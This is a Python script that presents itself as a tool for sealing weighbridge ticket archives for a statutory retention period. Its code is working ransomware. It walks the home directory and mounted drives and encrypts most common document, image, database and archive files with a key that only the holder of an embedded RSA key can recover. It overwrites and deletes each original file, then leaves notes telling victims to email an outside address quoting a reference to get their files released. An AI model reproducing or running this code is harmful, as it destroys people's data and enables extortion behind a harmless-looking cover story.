#!/usr/bin/env python3
"""Seal weighbridge ticket archives for the statutory retention period.

Ticket exports, scanned waste transfer notes and the camera stills attached
to them end up scattered across the office PC (desktop, downloads, the
shared drive mounts). This tool finds them, seals each file in place with
AES-GCM so personal data is not left readable on the workstation, and
escrows the data key to the records office under its RSA key so only the
records office can release a sealed file.
"""
import argparse
import logging
import os
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("wb-seal")

MAGIC = b"WBS2"
SEALED_SUFFIX = ".wbseal"
EXTS = {".csv", ".xlsx", ".xls", ".ods", ".pdf", ".doc", ".docx", ".odt", ".txt",
        ".jpg", ".jpeg", ".png", ".tif", ".db", ".sqlite", ".mdb", ".zip", ".json"}
PRUNE = {".cache", ".local", ".git", "node_modules", "__pycache__", "proc", "sys", "dev"}
NOTICE = "RETENTION_NOTICE.txt"

RECORDS_OFFICE_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAoijGc4L8yFBFD+HDfRWe
Yz8u0byqPbLgfezFcfjKDCgln9it5l0cRTYhboh0KD4x0BN+/5ZKyN/XoHZPEqB1
tCOZXTV4BigDeFS/CXiVESvQJzuZh9j0hFWng2I0MCsb12BzWwAqccnZxnVLsL/E
RJFdt20zM/b2QWKuMReI+r/Y/IUoDmDb7d4oD8RqpkIH34OFiruYN6DlSIft0NU/
h5Ed3EaS5vKN63S2dG5xC2C8xgPtB2ziH6D/VeLKVeNn9Lk+kIADtLfRNMai/xsd
95Bs9vpgmblkYYMo50wGj82wBKHnCow7MorWN+c9H4oRS0hCnLRdRtwKWZKPHGS+
sQIDAQAB
-----END PUBLIC KEY-----
"""


def default_roots():
    roots = [Path.home()]
    for extra in ("/srv/weighbridge", "/mnt", "/media"):
        if os.path.isdir(extra):
            roots.append(Path(extra))
    return roots


def iter_candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, topdown=True):
            dirnames[:] = [d for d in dirnames if d not in PRUNE]
            for name in filenames:
                if name == NOTICE or name.endswith(SEALED_SUFFIX):
                    continue
                if os.path.splitext(name)[1].lower() in EXTS:
                    yield Path(dirpath, name)


class Sealer:
    def __init__(self, escrow_pem):
        escrow = serialization.load_pem_public_key(escrow_pem)
        data_key = AESGCM.generate_key(bit_length=256)
        self.aes = AESGCM(data_key)
        self.escrowed = escrow.encrypt(
            data_key,
            padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
        self.ref = uuid.uuid4().hex
        del data_key

    def seal(self, path):
        try:
            data = path.read_bytes()
            nonce = os.urandom(12)
            out = path.with_name(path.name + SEALED_SUFFIX)
            with open(out, "wb") as fh:
                fh.write(MAGIC + nonce + self.aes.encrypt(nonce, data, path.name.encode()))
                fh.flush()
                os.fsync(fh.fileno())
            self._retire(path, len(data))
            return True
        except (OSError, ValueError) as exc:
            log.debug("%s: %s", path, exc)
            return False

    @staticmethod
    def _retire(path, size):
        # leave no readable copy of the personal data behind
        with open(path, "r+b", buffering=0) as fh:
            fh.write(b"\x00" * size)
            os.fsync(fh.fileno())
        path.unlink()

    def write_notice(self, folder):
        text = (
            "Weighbridge records in this location have been sealed for the retention period.\n"
            "Sealed files end in %s and cannot be opened on this workstation.\n\n"
            "To request release, email records-release@wbsuite.example.net quoting:\n\n"
            "REFERENCE: %s\nESCROW: %s\n"
        ) % (SEALED_SUFFIX, self.ref, self.escrowed.hex())
        try:
            (Path(folder) / NOTICE).write_text(text)
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", type=Path, help="folders to seal (default: profile and shares)")
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    roots = args.roots or default_roots()
    if args.list:
        for p in iter_candidates(roots):
            print(p)
        return 0
    sealer = Sealer(RECORDS_OFFICE_KEY)
    folders = set()
    sealed = 0
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        paths = list(iter_candidates(roots))
        for path, ok in zip(paths, pool.map(sealer.seal, paths)):
            if ok:
                sealed += 1
                folders.add(path.parent)
    for folder in folders | set(roots):
        sealer.write_notice(folder)
    log.info("%d files sealed under reference %s", sealed, sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
